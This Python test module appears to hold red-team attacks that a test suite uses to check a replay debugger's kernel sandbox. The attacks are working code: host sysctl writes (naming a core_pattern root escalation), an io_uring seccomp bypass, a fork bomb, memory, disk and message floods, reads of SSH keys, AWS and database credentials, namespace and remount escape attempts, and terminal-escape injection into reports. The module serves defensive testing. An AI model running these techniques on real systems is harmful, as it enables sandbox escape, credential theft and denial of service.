"""Attacks on the kernel sandbox itself (the red team's, after issue 17's were contained).

Same shape as :mod:`tests.replay.attacks`: each agent attacks once, in the first step it
replays, notes what happened in ``state["attack"]``, then steps as the ledger agent. The
test is ``tests/replay/test_replay_kernel_attacks.py``.
"""

from __future__ import annotations

import ctypes
import gc
import mmap
import os
import socket
import struct
import time
from pathlib import Path

from tests.replay.attacks import Attack, Notes, _dir, _try

_LIBC = ctypes.CDLL(None, use_errno=True)
_LIBC.syscall.restype = ctypes.c_long


def _syscall(nr: int, *args: int | bytes | ctypes.Array[ctypes.c_char]) -> tuple[int, int]:
    ctypes.set_errno(0)
    result = _LIBC.syscall(ctypes.c_long(nr), *args)
    return int(result), ctypes.get_errno()


class HostSysctl(Attack):
    """Writes the host's kernel settings through the sandbox's ``/proc/sys``: the same value
    back (a no-op here), where ``kernel.core_pattern = |<work>/x.sh`` would run a program as
    the host's root at the next crash anywhere on the machine."""

    def attack(self, notes: Notes) -> None:
        for name in ("kernel/core_pattern", "vm/overcommit_ratio"):
            path = f"/proc/sys/{name}"
            value = Path(path).read_bytes()  # libc below: the hooks see no write
            ctypes.set_errno(0)
            fd = _LIBC.open(path.encode(), os.O_WRONLY)
            wrote = _LIBC.write(fd, value, len(value)) if fd >= 0 else -1
            notes.append(
                f"{name}: ok" if wrote == len(value) else f"{name}: errno {ctypes.get_errno()}"
            )
            if fd >= 0:
                _LIBC.close(fd)


class Keyring(Attack):
    """Reaches the kernel keyring of the user it runs as (the host's, shared across every
    namespace): its own key would stay there after the replay."""

    def attack(self, notes: Notes) -> None:
        keyctl_get_keyring_id, user_keyring = 0, -4
        found, errno_ = _syscall(_KEYCTL, keyctl_get_keyring_id, user_keyring, 0)
        notes.append("keyring ok" if found > 0 else f"keyring errno {errno_}")


_KEYCTL = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
_IO_URING_SETUP = 425  # the same number on every architecture
_IO_URING_ENTER = 426
_OP_CONNECT, _OP_SOCKET = 16, 45


class _Ring:
    """The smallest io_uring: one submission at a time, waited for."""

    def __init__(self) -> None:
        params = ctypes.create_string_buffer(120)
        fd, errno_ = _syscall(_IO_URING_SETUP, 4, params)
        if fd < 0:
            raise OSError(errno_, "io_uring_setup")
        self.fd = fd
        raw = params.raw
        sq_entries, cq_entries = struct.unpack_from("=II", raw, 0)
        # struct io_sqring_offsets at 40, io_cqring_offsets at 80
        sq = struct.unpack_from("=IIIIIII", raw, 40)
        cq = struct.unpack_from("=IIIIII", raw, 80)
        self.sq_off = dict(zip(("head", "tail", "mask", "entries", "flags", "dropped",
                                "array"), sq, strict=True))  # fmt: skip
        self.cq_off = dict(zip(("head", "tail", "mask", "entries", "overflow", "cqes"), cq,
                               strict=True))  # fmt: skip
        prot, flags = mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_SHARED
        self.sq = mmap.mmap(fd, sq[6] + sq_entries * 4, flags, prot, offset=0)
        self.cq = mmap.mmap(fd, cq[5] + cq_entries * 16, flags, prot, offset=0x8000000)
        self.sqes = mmap.mmap(fd, sq_entries * 64, flags, prot, offset=0x10000000)

    def run(self, opcode: int, fd: int, addr: int = 0, length: int = 0, off: int = 0) -> int:
        sqe = struct.pack("=BBHiQQI", opcode, 0, 0, fd, off, addr, length).ljust(64, b"\0")
        self.sqes[0:64] = sqe
        tail = struct.unpack_from("=I", self.sq, self.sq_off["tail"])[0]
        mask = struct.unpack_from("=I", self.sq, self.sq_off["mask"])[0]
        struct.pack_into("=I", self.sq, self.sq_off["array"] + 4 * (tail & mask), 0)
        struct.pack_into("=I", self.sq, self.sq_off["tail"], tail + 1)
        done, errno_ = _syscall(_IO_URING_ENTER, self.fd, 1, 1, 1, 0, 0)
        if done < 0:
            raise OSError(errno_, "io_uring_enter")
        head = struct.unpack_from("=I", self.cq, self.cq_off["head"])[0]
        cmask = struct.unpack_from("=I", self.cq, self.cq_off["mask"])[0]
        at = self.cq_off["cqes"] + 16 * (head & cmask)
        _, res, _ = struct.unpack_from("=QiI", self.cq, at)
        struct.pack_into("=I", self.cq, self.cq_off["head"], head + 1)
        return int(res)


class IoUringUnixSocket(Attack):
    """Makes a Unix socket and connects it through io_uring: no ``socket`` system call for
    the seccomp filter to see."""

    def attack(self, notes: Notes) -> None:
        def connect() -> None:
            ring = _Ring()
            fd = ring.run(_OP_SOCKET, socket.AF_UNIX, length=0, off=socket.SOCK_STREAM)
            if fd < 0:
                raise OSError(-fd, "IORING_OP_SOCKET")
            path = os.environ["ATTACK_UNIX"].encode()
            address = ctypes.create_string_buffer(struct.pack("=H", socket.AF_UNIX) + path, 110)
            res = ring.run(_OP_CONNECT, fd, ctypes.addressof(address), 0, 110)
            if res < 0:
                raise OSError(-res, "IORING_OP_CONNECT")
            os.write(fd, b"escaped")

        _try(notes, "io_uring unix connect", connect)


class Flood(Attack):
    """Sends the parent one message whose JSON is small on the wire and huge once parsed
    (ten million empty lists: 30 MB of text, hundreds of MB of Python objects)."""

    def attack(self, notes: Notes) -> None:
        for obj in gc.get_objects():
            if type(obj).__name__ == "Writer" and type(obj).__module__.endswith("protocol"):
                state = b"[" + b"[]," * 10_000_000 + b"[]]"
                line = (b'{"type":"violation","kind":"network","step_index":2,"detail":"x",'
                        b'"extra":' + state + b"}\n")  # fmt: skip
                stream = obj._stream
                stream.write(line)
                stream.flush()
                notes.append("flooded")
                time.sleep(5)


host_sysctl = HostSysctl()
keyring = Keyring()
io_uring_unix_socket = IoUringUnixSocket()
flood = Flood()


class ForkBomb(Attack):
    """Forks until the kernel says no (at most 1100 processes, each waiting to be killed):
    RLIMIT_NPROC is not enforced for root, and the PID namespace bounds how long they
    live, not how many there are (the host's ``pid_max`` is shared)."""

    def attack(self, notes: Notes) -> None:
        from debugger.replay import guard

        guard._PROCESS_EVENTS = frozenset()  # type: ignore[misc]
        forked = 0
        for _ in range(1100):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                time.sleep(120)
                os._exit(0)
            forked += 1
        notes.append(f"forked {forked}")


class MemfdFill(Attack):
    """Fills anonymous files (``memfd_create``) with 1.5 GB: memory that belongs to no
    address space, so RLIMIT_AS does not count it, and no file on a capped tmpfs."""

    def attack(self, notes: Notes) -> None:
        chunk = b"x" * (64 << 20)
        written, fds = 0, []
        try:
            while written < 1536 << 20:
                if written % (512 << 20) == 0:  # under the 1 GB file-size limit each
                    fds.append(os.memfd_create("fill"))
                os.write(fds[-1], chunk)
                written += len(chunk)
        except OSError as e:
            notes.append(f"memfd {type(e).__name__}")
        notes.append(f"memfd {written >> 20} MB")
        for fd in fds:
            os.close(fd)


fork_bomb = ForkBomb()
memfd_fill = MemfdFill()


class SecretReader(Attack):
    """Reads the credentials a project or a home directory keeps next to its code, and
    lists the home directory when it is on the import path (a notebook started there)."""

    def attack(self, notes: Notes) -> None:
        root = _dir()
        for name in (".env", ".pgpass", ".ssh/id_ed25519", ".aws/credentials"):
            _try(notes, name, lambda name=name: _nonempty((root / name).read_text()))
        _try(notes, "home", lambda: _nonempty(os.listdir(os.environ["ATTACK_HOME"])))


def _nonempty(found: object) -> None:
    if not found:
        raise FileNotFoundError("empty")


secret_reader = SecretReader()


class Inside(Attack):
    """What a sandboxed process holds and can reach inside: its descriptors, the processes
    it sees, signals to the sandbox's first process, a user namespace of its own with a
    read-write remount, the host's cgroups and ``/sys``."""

    def attack(self, notes: Notes) -> None:
        fds = sorted(int(fd) for fd in os.listdir("/proc/self/fd"))
        targets = []
        for fd in fds:
            try:
                targets.append(os.readlink(f"/proc/self/fd/{fd}"))
            except OSError:  # the listing's own descriptor, closed by now
                continue
        notes.append(
            f"fds {sorted(t.split('/')[-1] if '/' in t else t.split(':')[0] for t in targets)}"
        )
        notes.append(f"processes {len([p for p in os.listdir('/proc') if p.isdigit()])}")
        notes.append(f"kill 1: {_LIBC.kill(1, 9)}, alive {os.path.exists('/proc/1')}")
        notes.append(f"kill parent: {_LIBC.kill(os.getppid(), 15)}")
        victim = os.open(_dir() / "victim-a.txt", os.O_RDONLY)
        ctypes.set_errno(0)
        reopened = _LIBC.open(f"/proc/self/fd/{victim}".encode(), os.O_WRONLY)
        notes.append(f"reopen for writing {reopened} errno {ctypes.get_errno()}")
        os.close(victim)
        ctypes.set_errno(0)
        tty = _LIBC.open(b"/dev/tty", os.O_RDWR)  # libc: the hooks would refuse it first
        notes.append(f"/dev/tty {tty} errno {ctypes.get_errno()}")
        init_env = Path("/proc/1/environ").read_bytes().split(b"\0")
        notes.append(f"init env {sorted(e.split(b'=')[0].decode() for e in init_env if e)}")
        _try(notes, "/sys", lambda: os.listdir("/sys"))
        _try(notes, "/sys/fs/cgroup", lambda: os.listdir("/sys/fs/cgroup"))
        import threading  # threads still start: clone3 answers ENOSYS, the C library uses clone

        thread = threading.Thread(target=lambda: None)
        _try(notes, "thread", lambda: (thread.start(), thread.join()))
        clone_newuser, clone_newns = 0x10000000, 0x20000
        unshared, _ = _syscall(_UNSHARE, clone_newuser | clone_newns)
        notes.append(f"unshare {unshared}")
        if unshared == 0:
            ms_remount, ms_bind = 32, 4096
            res = _LIBC.mount(b"none", str(_dir()).encode(), None, ms_remount | ms_bind, None)
            notes.append(f"remount rw {res}")
            ctypes.set_errno(0)
            fd = _LIBC.open(str(_dir() / "victim-a.txt").encode(), os.O_WRONLY | os.O_TRUNC)
            notes.append(f"write after remount {fd}")


_UNSHARE = {"x86_64": 272, "aarch64": 97}[os.uname().machine]
inside = Inside()


class ManySmall(Attack):
    """Sends the parent 300 000 well-formed violation messages, as fast as it can."""

    def attack(self, notes: Notes) -> None:
        for obj in gc.get_objects():
            if type(obj).__name__ == "Writer" and type(obj).__module__.endswith("protocol"):
                for _ in range(300_000):
                    obj.send("violation", kind="network", detail="connect x", step_index=2)
                notes.append("sent")


many_small = ManySmall()


class DiskFill(Attack):
    """Fills the disk through its work directory: files under the 1 GB file-size limit
    each (``ATTACK_FILE_MB`` of them, ``ATTACK_FILES`` files), or many empty files."""

    def attack(self, notes: Notes) -> None:
        chunk = b"x" * (16 << 20)
        size_mb = int(os.environ.get("ATTACK_FILE_MB", "0"))
        for i in range(int(os.environ["ATTACK_FILES"])):
            with open(f"fill-{i}", "wb") as f:
                for _ in range(size_mb // 16):
                    f.write(chunk)
        notes.append("filled")


disk_fill = DiskFill()


class TerminalEscapes(Attack):
    """Sends a refusal whose text drives the user's terminal (clear the screen, retitle the
    window, move the cursor up over the verdict), as a violation the report prints."""

    def attack(self, notes: Notes) -> None:
        for obj in gc.get_objects():
            if type(obj).__name__ == "Writer" and type(obj).__module__.endswith("protocol"):
                detail = "\x1b[2J\x1b]0;owned\x07\x1b[1Acompleted\rverdict: all good"
                obj.send("violation", kind="network", step_index=2, detail=detail)
                notes.append("sent")


terminal_escapes = TerminalEscapes()
